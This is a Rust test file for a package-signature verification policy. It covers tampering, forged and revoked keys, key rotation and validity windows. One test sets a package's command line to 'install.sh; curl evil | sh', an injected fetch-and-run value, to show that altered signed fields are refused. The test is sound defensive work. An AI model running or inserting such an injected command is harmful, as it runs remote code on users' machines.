//! The policy of [`check`], without a network: each refusal names its cause.

use super::*;
use crate::protocol::{PackageHash, PackageInstructions};

const NOW: i64 = 1_767_225_600; // 2026-01-01

fn instructions() -> PackageInstructions {
    PackageInstructions {
        id: "PKG-1".into(),
        required: true,
        package_size: Some(3),
        command_line: Some("install.sh".into()),
        hash: Some(PackageHash {
            algorithm: "SHA-256".into(),
            hex: "ab".repeat(32),
        }),
        ..PackageInstructions::default()
    }
}

fn signed(pair: &SigningKeyPair) -> PackageInstructions {
    let mut i = instructions();
    sign(&mut i, pair, None);
    i
}

fn trusting(keys: &[&SigningKeyPair], require: bool) -> TrustSettings {
    TrustSettings {
        require_signature: require,
        keys: keys
            .iter()
            .map(|p| TrustedKey {
                key: p.public(),
                not_before: None,
                not_after: None,
            })
            .collect(),
        revoked: Vec::new(),
    }
}

fn refusal(trust: &TrustSettings, i: &PackageInstructions) -> String {
    check(trust, i, NOW).expect_err("refused").0
}

fn key() -> SigningKeyPair {
    SigningKeyPair::generate().expect("key pair")
}

#[test]
fn signed_by_a_trusted_key_passes() {
    let k = key();
    let verdict = check(&trusting(&[&k], true), &signed(&k), NOW).expect("verified");
    assert_eq!(
        verdict,
        Verdict::Signed {
            key_id: k.public().id(),
            endorsed_by: None
        }
    );
}

#[test]
fn unsigned_passes_only_without_the_policy() {
    let k = key();
    assert!(matches!(
        check(&trusting(&[&k], false), &instructions(), NOW),
        Ok(Verdict::Unverified(_))
    ));
    assert!(refusal(&trusting(&[&k], true), &instructions()).contains("no Signature"));
}

#[test]
fn every_signed_field_is_protected() {
    let k = key();
    let trust = trusting(&[&k], true);
    let mut command = signed(&k);
    command.command_line = Some("install.sh; curl evil | sh".into());
    assert!(refusal(&trust, &command).contains("altered"));
    let mut hash = signed(&k);
    if let Some(h) = &mut hash.hash {
        h.hex = "cd".repeat(32);
    }
    assert!(refusal(&trust, &hash).contains("altered"));
}

#[test]
fn package_signature_alone_is_checked() {
    let k = key();
    let mut i = signed(&k);
    i.signature = None;
    // Without the policy, the package signature still has to hold.
    assert!(check(&trusting(&[&k], false), &i, NOW).is_ok());
    i.package_size = Some(4);
    assert!(refusal(&trusting(&[&k], false), &i).contains("hash or size"));
    // With it, the missing instruction signature is the refusal.
    assert!(
        refusal(&trusting(&[&k], true), &signed_without_package(&k)).contains("PackageSignature")
    );
}

fn signed_without_package(k: &SigningKeyPair) -> PackageInstructions {
    let mut i = signed(k);
    i.package_signature = None;
    i
}

#[test]
fn command_only_packages_need_no_package_signature() {
    let k = key();
    let mut i = instructions();
    i.source_files = Some(false);
    i.hash = None;
    sign(&mut i, &k, None);
    assert!(i.package_signature.is_none());
    assert!(check(&trusting(&[&k], true), &i, NOW).is_ok());
}

#[test]
fn wrong_key_is_refused_even_without_the_policy() {
    let (trusted, other) = (key(), key());
    for require in [true, false] {
        let why = refusal(&trusting(&[&trusted], require), &signed(&other));
        assert!(why.contains("not a trusted key"), "{why}");
    }
    // A wrong signature that claims the trusted key's ID.
    let mut forged = signed(&other);
    if let Some(s) = &mut forged.signature {
        s.key_id = trusted.public().id();
    }
    if let Some(s) = &mut forged.package_signature {
        s.key_id = trusted.public().id();
    }
    assert!(refusal(&trusting(&[&trusted], false), &forged).contains("altered"));
}

#[test]
fn revoked_keys_and_their_endorsements_are_refused() {
    let (old, new) = (key(), key());
    let mut trust = trusting(&[&old], true);
    trust.revoked.push(old.public().id());
    assert!(refusal(&trust, &signed(&old)).contains("revoked"));
    let mut rotated = instructions();
    sign(&mut rotated, &new, Some(&endorse(&old, &new.public())));
    assert!(refusal(&trust, &rotated).contains("revoked"));
    // A revoked key is refused even while it is also configured as trusted.
    let mut trust = trusting(&[&old, &new], true);
    trust.revoked.push(new.public().id());
    assert!(refusal(&trust, &signed(&new)).contains("revoked"));
}

#[test]
fn rotated_key_endorsed_by_a_trusted_key_passes() {
    let (old, new, stranger) = (key(), key(), key());
    let trust = trusting(&[&old], true);
    let mut rotated = instructions();
    sign(&mut rotated, &new, Some(&endorse(&old, &new.public())));
    assert_eq!(
        check(&trust, &rotated, NOW),
        Ok(Verdict::Signed {
            key_id: new.public().id(),
            endorsed_by: Some(old.public().id())
        })
    );
    // An endorsement by an untrusted key, or a forged one, does not help.
    let mut self_made = instructions();
    sign(
        &mut self_made,
        &new,
        Some(&endorse(&stranger, &new.public())),
    );
    assert!(refusal(&trust, &self_made).contains("endorsed by"));
    let mut forged = rotated.clone();
    if let Some(e) = &mut forged.signing_key {
        e.endorsed_by = old.public().id();
        e.value = stranger.sign(b"anything");
    }
    assert!(refusal(&trust, &forged).contains("endorsement"));
}

#[test]
fn key_windows_bound_when_a_key_counts() {
    let (old, new) = (key(), key());
    let mut trust = trusting(&[&old, &new], true);
    trust.keys[0].not_after = Some(NOW - 1);
    trust.keys[1].not_before = Some(NOW - 100);
    assert!(refusal(&trust, &signed(&old)).contains("window"));
    assert!(check(&trust, &signed(&new), NOW).is_ok());
    assert!(check(&trust, &signed(&new), NOW - 200).is_err());
}

#[test]
fn unsupported_algorithm_is_named() {
    let k = key();
    let mut i = signed(&k);
    if let Some(s) = &mut i.signature {
        s.algorithm = "RSA".into();
    }
    assert!(refusal(&trusting(&[&k], true), &i).contains("RSA"));
}

#[test]
fn signatures_survive_the_wire() {
    use crate::protocol::{Document, Instructions};
    let k = key();
    let mut i = signed(&k);
    i.signing_key = Some(endorse(&k, &k.public()));
    let doc = Instructions {
        packages: vec![i.clone()],
    };
    let back = Instructions::decode(&doc.encode()).expect("decode");
    assert_eq!(back.packages[0], i);
    assert!(check(&trusting(&[&k], true), &back.packages[0], NOW).is_ok());
}
